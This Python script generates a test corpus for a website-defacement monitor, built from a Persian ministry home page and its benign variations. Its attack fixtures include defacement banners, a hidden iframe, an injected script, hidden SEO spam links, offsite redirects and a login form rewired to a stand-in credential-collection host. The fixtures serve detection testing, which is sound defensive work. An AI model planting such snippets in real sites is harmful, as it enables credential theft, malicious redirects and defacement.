#!/usr/bin/env python3
"""Generate the website-watch accuracy corpus (tests/watch_corpus/).

usage: tests/watch_corpus/gen.py        (rewrites benign/ and attack/ here)

One realistic page family, the home page of a ministry (Persian, right to
left, with the usual furniture: menu, news list, announcements, rotating
banner, visitor counter, date, search and login forms, CSRF token, analytics,
an embedded video, links to other state bodies). Every case is a directory
with base1.html base2.html base3.html (three observations the baseline
learns from; they differ the way real observations do: date, counters,
token, banner, one news item) and new.html, plus `expect`:

    benign                      no signal at all may be raised
    attack SIGNAL               SIGNAL must be among the signals raised
    url URL                     the page's URL (`parapet watch analyze --url`)

A benign case may also hold old1.html..old3.html: observations of the
design before an accepted change; new.html must alarm against those (the
change is real) and be clean against base*.html (learned again).

The output is deterministic (fixed seed), so regenerating changes nothing
unless this script changed. test_watch_corpus.c reads the directories.
"""
import os
import random
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
HOST = "www.mrud.example"

FA_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")


def fa(n):
    return str(n).translate(FA_DIGITS)


NEWS = [
    ("آغاز عملیات اجرایی آزادراه شمال در قطعه سوم", "معاون وزیر از پیشرفت ۶۵ درصدی قطعه سوم آزادراه خبر داد و گفت بهره‌برداری تا پایان سال انجام می‌شود."),
    ("نشست مشترک وزیر با استانداران درباره طرح ملی مسکن", "در این نشست آخرین وضعیت واگذاری زمین و تأمین مالی واحدهای طرح ملی مسکن بررسی شد."),
    ("افتتاح ایستگاه جدید راه‌آهن در استان یزد", "ایستگاه جدید با ظرفیت سالانه یک میلیون مسافر به شبکه ریلی کشور افزوده شد."),
    ("اطلاعیه درباره ثبت‌نام مرحله دوم نهضت ملی مسکن", "متقاضیان می‌توانند از طریق سامانه یکپارچه نسبت به تکمیل پرونده خود اقدام کنند."),
    ("بازدید هیئت کارشناسی از پروژه‌های بازآفرینی شهری", "هیئت کارشناسی از ۱۲ پروژه بازآفرینی در بافت‌های فرسوده شهری بازدید کرد."),
    ("برگزاری همایش ملی ایمنی راه‌ها", "همایش ملی ایمنی راه‌ها با حضور کارشناسان پلیس راه و سازمان راهداری برگزار شد."),
    ("تمدید مهلت ارسال مقالات به کنفرانس حمل و نقل", "دبیرخانه کنفرانس مهلت ارسال مقالات را تا پایان ماه آینده تمدید کرد."),
    ("راه‌اندازی سامانه هوشمند پایش ترافیک محورهای مواصلاتی", "این سامانه اطلاعات ترافیکی محورهای اصلی را به صورت برخط در اختیار مسافران قرار می‌دهد."),
    ("تشکیل کارگروه بهسازی ناوگان حمل و نقل عمومی", "کارگروه بهسازی ناوگان با حضور نمایندگان شهرداری‌ها تشکیل شد."),
    ("آزادسازی حریم راه‌ها در سه استان شمالی", "عملیات آزادسازی حریم راه‌ها با همکاری دستگاه قضایی در سه استان انجام شد."),
    ("گزارش عملکرد شش ماهه سازمان راهداری", "در شش ماه نخست سال بیش از دو هزار کیلومتر روکش آسفالت اجرا شد."),
    ("دیدار وزیر با سفیر کشورهای همسایه درباره کریدورهای ترانزیتی", "دو طرف بر توسعه کریدورهای ترانزیتی شمال جنوب و شرق غرب تأکید کردند."),
]
NEWS_HACKERS = ("هشدار مرکز ماهر درباره حملات هکرها به سامانه‌های اداری",
                "مرکز ماهر از دستگاه‌ها خواست به‌روزرسانی‌های امنیتی را نصب کنند؛ هکرها از آسیب‌پذیری سامانه‌های قدیمی بهره می‌برند. دستگاه‌ها باید گذرواژه‌های پیش‌فرض را تغییر دهند.")

BANNERS = [
    ("هفته ایمنی راه‌ها", "با رعایت قوانین راهنمایی و رانندگی سفری ایمن داشته باشید."),
    ("سامانه جامع املاک و اسکان", "ثبت اطلاعات سکونت برای همه خانوارها الزامی است."),
    ("پویش ملی کاهش تصادفات", "هر سفر ایمن، یک خانواده شاد؛ به پویش ملی بپیوندید."),
]

HERO = {
    "A": ("خدمات الکترونیک وزارت راه و شهرسازی", "دریافت خدمات", "hero hero-a"),
    "B": ("همه خدمات وزارتخانه در یک درگاه", "ورود به درگاه خدمات", "hero hero-b"),
}

LINKS = [
    ("https://www.president.example/", "پایگاه ریاست جمهوری"),
    ("https://dolat.example/", "پایگاه اطلاع‌رسانی دولت"),
    ("https://www.majlis.example/", "مجلس شورای اسلامی"),
    ("https://www.irna.example/", "خبرگزاری جمهوری اسلامی"),
    ("https://my.gov.example/", "پنجره ملی خدمات دولت هوشمند"),
    ("https://www.rai.example/", "راه‌آهن جمهوری اسلامی"),
]


def page(date="۱۴۰۵/۰۹/۰۳", visits=1234567, online=87, news_off=0, banner=0,
         csrf="7f3c9a1e5b2d4c6a8e0f1a2b3c4d5e6f", hero="A", title=None,
         extra_head="", top_banner="", body_end="", form_action="/account/login",
         news_override=None, extra_links="", stats=(1520, 342, 18)):
    title = title or "وزارت راه و شهرسازی - صفحه اصلی"
    news = news_override or NEWS[news_off:news_off + 6]
    bt, bx = BANNERS[banner]
    ht, hb, hc = HERO[hero]
    items = "\n".join(
        f'''      <li class="news-item">
        <a href="/news/{1000 + news_off + i}"><h3>{t}</h3></a>
        <p>{x}</p>
        <span class="date">{date}</span>
      </li>''' for i, (t, x) in enumerate(news))
    links = "\n".join(f'      <li><a href="{u}" target="_blank">{n}</a></li>' for u, n in LINKS)
    return f'''<!DOCTYPE html>
<html lang="fa" dir="rtl">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <meta name="csrf-token" content="{csrf}">
  <title>{title}</title>
  <link rel="stylesheet" href="/static/css/main.css?v=3.2">
  <link rel="icon" href="/favicon.ico">
  <script src="/static/js/jquery-3.6.0.min.js"></script>
  <script src="/static/js/site.js?v=3.2"></script>
  <script src="https://stats.gov.example/tracker.js" async></script>
  <script>
    window.siteConfig = {{ csrfToken: "{csrf}", lang: "fa", base: "/" }};
  </script>
{extra_head}</head>
<body class="home">
{top_banner}  <header class="site-header">
    <div class="logo"><a href="/"><img src="/static/img/logo.png" alt="وزارت راه و شهرسازی"></a></div>
    <div class="today">امروز: {date}</div>
    <nav class="main-menu">
      <ul>
        <li><a href="/">صفحه اصلی</a></li>
        <li><a href="/about">درباره وزارتخانه</a></li>
        <li><a href="/organization">ساختار سازمانی</a></li>
        <li><a href="/news">اخبار</a></li>
        <li><a href="/services">خدمات الکترونیک</a></li>
        <li><a href="/laws">قوانین و مقررات</a></li>
        <li><a href="/tenders">مناقصات و مزایده‌ها</a></li>
        <li><a href="/contact">تماس با ما</a></li>
      </ul>
    </nav>
    <form class="search" action="/search" method="get">
      <input type="text" name="q" placeholder="جستجو در سایت">
      <button type="submit">جستجو</button>
    </form>
  </header>

  <section class="{hc}">
    <h1>{ht}</h1>
    <p>درگاه یکپارچه خدمات حوزه راه، مسکن، شهرسازی و حمل و نقل برای شهروندان و فعالان اقتصادی.</p>
    <a class="btn" href="/services">{hb}</a>
  </section>

  <section class="banner rotating">
    <h2>{bt}</h2>
    <p>{bx}</p>
  </section>

  <main class="content">
    <section class="news">
      <h2>آخرین اخبار</h2>
      <ul>
{items}
      </ul>
      <a class="more" href="/news">آرشیو اخبار</a>
    </section>

    <section class="announcements">
      <h2>اطلاعیه‌ها</h2>
      <ul>
        <li>ساعت کاری ادارات در نیمه دوم سال از ساعت ۷ تا ۱۴ است.</li>
        <li>پاسخگویی تلفنی سامانه ۱۴۱ به صورت شبانه‌روزی انجام می‌شود.</li>
        <li>فهرست پروژه‌های آماده سرمایه‌گذاری در بخش اسناد منتشر شد.</li>
      </ul>
    </section>

    <section class="video">
      <h2>گزارش تصویری</h2>
      <iframe src="https://www.aparat.example/video/embed/abc123" width="560" height="315" allowfullscreen></iframe>
    </section>

    <section class="stats">
      <h2>آمار عملکرد</h2>
      <ul>
        <li>کیلومتر راه احداث شده: {fa(stats[0])}</li>
        <li>واحد مسکونی تحویل شده: {fa(stats[1])}</li>
        <li>پروژه در دست اجرا: {fa(stats[2])}</li>
      </ul>
    </section>

    <section class="login">
      <h2>ورود کارکنان</h2>
      <form method="post" action="{form_action}">
        <input type="hidden" name="_csrf" value="{csrf}">
        <label>نام کاربری <input type="text" name="username"></label>
        <label>گذرواژه <input type="password" name="password"></label>
        <button type="submit">ورود</button>
      </form>
    </section>
  </main>

  <aside class="links">
    <h2>پیوندهای مرتبط</h2>
    <ul>
{links}
{extra_links}    </ul>
  </aside>

  <footer class="site-footer">
    <p>نشانی: تهران، بلوار دانشجو، ساختمان شماره یک وزارت راه و شهرسازی</p>
    <p>تلفن: ۸۸۸۷۸۰۰۰ - کد پستی: ۱۹۹۶۷۱۳۸۸۳</p>
    <p class="counter">تعداد بازدید: {fa(visits)} | کاربران آنلاین: {fa(online)}</p>
    <p>کلیه حقوق این پایگاه متعلق به وزارت راه و شهرسازی است.</p>
  </footer>
{body_end}  <script>
    $(function () {{ $(".rotating").fadeIn(400); }});
  </script>
</body>
</html>
'''


# The three observations every case learns from: what changes between two
# checks a few hours apart on a real ministry site.
def bases(**kw):
    return [
        page(date="۱۴۰۵/۰۹/۰۳", visits=1234567, online=87, news_off=1, banner=0,
             csrf="7f3c9a1e5b2d4c6a8e0f1a2b3c4d5e6f", **kw),
        page(date="۱۴۰۵/۰۹/۰۳", visits=1236102, online=131, news_off=1, banner=1,
             csrf="0a9b8c7d6e5f40312233445566778899", **kw),
        page(date="۱۴۰۵/۰۹/۰۴", visits=1239877, online=64, news_off=0, banner=0,
             csrf="c0ffee00d15ea5e0ba5eba11deadbeef", **kw),
    ]


def later(**kw):
    """The next observation: another day, counters, token."""
    args = dict(date="۱۴۰۵/۰۹/۰۵", visits=1243310, online=102, news_off=0, banner=1,
                csrf="5ca1ab1e0ddba11c0c0a0b0e0f101112")
    args.update(kw)
    return page(**args)


FULL_DEFACEMENT = '''<html>
<head><title>Hacked By Shadow_Team</title>
<style>body{background:#000;color:#0f0;text-align:center;font-family:monospace}</style>
</head>
<body>
<h1>Hacked By Shadow_Team</h1>
<h2>سایت شما هک شد</h2>
<p>Your security is just an illusion. We are everywhere.</p>
<p>Greetz: Cyb3r_Gh0st - N0_Name - Dark_Soul - all members</p>
<marquee>Contact: shadow@mail.example</marquee>
<audio src="https://files.example/song.mp3" autoplay></audio>
</body>
</html>
'''

POLITICAL_DEFACEMENT = '''<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>پیام ما به مردم</title></head>
<body style="background:#111;color:#eee">
<h1>پیام ما به مردم</h1>
<p>این پیام را برای همه شهروندان می‌نویسیم. مسئولان باید پاسخگوی مشکلات مردم باشند و
صدای معترضان را بشنوند. ما تا رسیدن به خواسته‌هایمان ادامه می‌دهیم.</p>
<p>روزی که حقیقت آشکار شود دور نیست.</p>
</body></html>
'''

PARTIAL_BANNER = '''  <div style="background:#000;color:red;padding:20px;text-align:center">
    <h1>Hacked by Anon_Ghost_IR</h1>
    <p>Admin, your security is poor. Patch your CMS.</p>
  </div>
'''

PERSIAN_BANNER = '''  <div class="notice" style="background:#300;color:#fff">
    <h2>این سایت توسط تیم سایبری سایه هک شده است</h2>
    <p>هک شده توسط: سایه - تقدیم به همه دوستان</p>
  </div>
'''

SPAM_HOSTS = ["casino-royal", "best-slots", "poker-star-bonus", "cheap-pills", "viagra-online",
              "pharma-discount", "bet-win-now", "slot-gacor", "replica-watches", "payday-loans-fast",
              "online-casino-bonus", "cialis-generic"]


def spam_block():
    rnd = random.Random(4)
    out = ['  <div style="position:absolute;left:-9999px">']
    for i in range(30):
        h = SPAM_HOSTS[i % len(SPAM_HOSTS)]
        tld = rnd.choice(["example", "example.net", "example.org"])
        out.append(f'    <a href="https://www.{h}{i // len(SPAM_HOSTS)}.{tld}/">best {h.replace("-", " ")} {i}</a>')
    out.append("  </div>\n")
    return "\n".join(out)


def redesign(**kw):
    """The same ministry after a redesign: new layout, new copy."""
    date = kw.get("date", "۱۴۰۵/۰۹/۰۶")
    visits = kw.get("visits", 1250000)
    csrf = kw.get("csrf", "aa11bb22cc33dd44ee55ff6600771188")
    news = kw.get("news", NEWS[3:8])
    items = "\n".join(f'<article><h3><a href="/fa/news/{2000 + i}">{t}</a></h3><time>{date}</time></article>'
                      for i, (t, _x) in enumerate(news))
    return f'''<!DOCTYPE html>
<html lang="fa" dir="rtl"><head><meta charset="utf-8">
<title>پرتال وزارت راه و شهرسازی</title>
<link rel="stylesheet" href="/assets/v4/app.css">
<script src="/assets/v4/app.js" defer></script>
<script src="https://stats.gov.example/tracker.js" async></script>
<script>window.__APP__ = {{ token: "{csrf}" }};</script>
</head><body>
<div class="topbar"><span>{date}</span><a href="/en">English</a></div>
<header><a href="/"><img src="/assets/v4/logo.svg" alt="پرتال وزارت"></a>
<nav><a href="/fa/portal">پرتال خدمات</a><a href="/fa/media">رسانه</a><a href="/fa/docs">اسناد و گزارش‌ها</a><a href="/fa/contact">ارتباط با ما</a></nav>
<form action="/fa/search"><input name="q"><button>بگرد</button></form></header>
<main>
<section class="intro"><h1>پرتال جدید وزارت راه و شهرسازی</h1>
<p>پرتال جدید با هدف دسترسی ساده‌تر شهروندان به خدمات و اطلاعات حوزه راه، مسکن و شهرسازی طراحی شده است.
در این نسخه، خدمات پرکاربرد در صفحه نخست قرار گرفته و امکان پیگیری درخواست‌ها فراهم شده است.</p></section>
<section class="cards"><div class="card">استعلام پروانه ساختمانی</div><div class="card">پیگیری طرح ملی مسکن</div>
<div class="card">صدور کارت حمل و نقل</div><div class="card">شکایات و پیشنهادها</div></section>
<section class="media"><h2>تازه‌ترین‌ها</h2>
{items}
</section>
<section class="signin"><form method="post" action="/fa/auth/signin"><input type="hidden" name="token" value="{csrf}">
<input name="user"><input name="pass" type="password"><button>ورود به حساب</button></form></section>
</main>
<footer><p>بازدید امروز: {fa(visits)}</p><p>© وزارت راه و شهرسازی</p>
<a href="https://my.gov.example/">پنجره ملی خدمات</a> <a href="https://www.president.example/">ریاست جمهوری</a></footer>
</body></html>
'''


def write_shared_site():
    """The site's usual observations, learned from by every case that does
    not bring its own (site/base1.html..); written once, not per case."""
    d = os.path.join(HERE, "site")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    for i, b in enumerate(bases(), 1):
        with open(os.path.join(d, f"base{i}.html"), "w", encoding="utf-8") as f:
            f.write(b)


def write_case(kind, name, base_pages, new_page, expect, old=None):
    """base_pages None: the case learns from the shared site/base*.html."""
    d = os.path.join(HERE, kind, name)
    os.makedirs(d, exist_ok=True)
    for i, b in enumerate(base_pages or [], 1):
        with open(os.path.join(d, f"base{i}.html"), "w", encoding="utf-8") as f:
            f.write(b)
    for i, b in enumerate(old or [], 1):
        with open(os.path.join(d, f"old{i}.html"), "w", encoding="utf-8") as f:
            f.write(b)
    with open(os.path.join(d, "new.html"), "w", encoding="utf-8") as f:
        f.write(new_page)
    with open(os.path.join(d, "expect"), "w") as f:
        f.write(expect + "\n" + "url https://" + HOST + "/\n")


def main():
    for kind in ("benign", "attack"):
        shutil.rmtree(os.path.join(HERE, kind), ignore_errors=True)
    write_shared_site()

    # ---- benign: what a real site does between two checks
    write_case("benign", "news_added", None,
               later(news_override=[NEWS[8]] + NEWS[0:5]), "benign")
    write_case("benign", "news_week", None,
               later(news_override=NEWS[8:12] + NEWS[0:2], date="۱۴۰۵/۰۹/۱۱"), "benign")
    write_case("benign", "date_changed", None, later(date="۱۴۰۵/۰۹/۰۶"), "benign")
    write_case("benign", "rotating_banner", None, later(banner=2), "benign")
    write_case("benign", "csrf_token", None, later(csrf="ffeeddccbbaa99887766554433221100"), "benign")
    write_case("benign", "ab_variant", None, later(hero="B"), "benign")
    write_case("benign", "counters_changed", None,
               later(visits=1299999, online=412, stats=(1533, 351, 17)), "benign")
    write_case("benign", "news_about_hackers", None,
               later(news_override=[NEWS_HACKERS] + NEWS[0:5]), "benign")
    write_case("benign", "redesign_accepted",
               [redesign(date="۱۴۰۵/۰۹/۰۶", visits=1250000, csrf="aa11bb22cc33dd44ee55ff6600771188"),
                redesign(date="۱۴۰۵/۰۹/۰۶", visits=1252301, csrf="0102030405060708090a0b0c0d0e0f10",
                         news=[NEWS[9]] + NEWS[3:7]),
                redesign(date="۱۴۰۵/۰۹/۰۷", visits=1255544, csrf="1112131415161718191a1b1c1d1e1f20")],
               redesign(date="۱۴۰۵/۰۹/۰۸", visits=1259020, csrf="2122232425262728292a2b2c2d2e2f30",
                        news=[NEWS[10], NEWS[9]] + NEWS[3:6]),
               "benign", old=bases())

    # ---- attacks
    write_case("attack", "full_defacement", None, FULL_DEFACEMENT, "attack defacement_signature")
    write_case("attack", "full_replacement_no_signature", None, POLITICAL_DEFACEMENT,
               "attack text_changed")
    write_case("attack", "partial_defacement", None, later(top_banner=PARTIAL_BANNER),
               "attack defacement_signature")
    write_case("attack", "partial_defacement_persian", None, later(top_banner=PERSIAN_BANNER),
               "attack defacement_signature")
    write_case("attack", "injected_script", None,
               later(body_end='  <script src="https://cdn.jsdeliver-stats.example/analytics.min.js"></script>\n'),
               "attack new_script_host")
    write_case("attack", "hidden_iframe", None,
               later(body_end='  <iframe src="http://counter-stat.example/in.php?id=7781" width="1" height="1" frameborder="0" style="visibility:hidden"></iframe>\n'),
               "attack new_iframe_host")
    write_case("attack", "seo_spam", None, later(body_end=spam_block()), "attack seo_spam")
    write_case("attack", "meta_refresh", None,
               later(extra_head='  <meta http-equiv="refresh" content="0; url=https://gift-card-win.example/fa">\n'),
               "attack redirect_offsite")
    write_case("attack", "js_redirect", None,
               later(extra_head='  <script>if (document.referrer.indexOf("google") > -1) { window.location.href = "https://bet-fa.example/?ref=mrud"; }</script>\n'),
               "attack redirect_offsite")
    write_case("attack", "form_hijack", None,
               later(form_action="https://mrud-login.example/collect.php"), "attack form_action_offsite")
    write_case("attack", "title_replaced", None,
               later(title="خرید فالوور ارزان اینستاگرام"), "attack title_replaced")


if __name__ == "__main__":
    main()
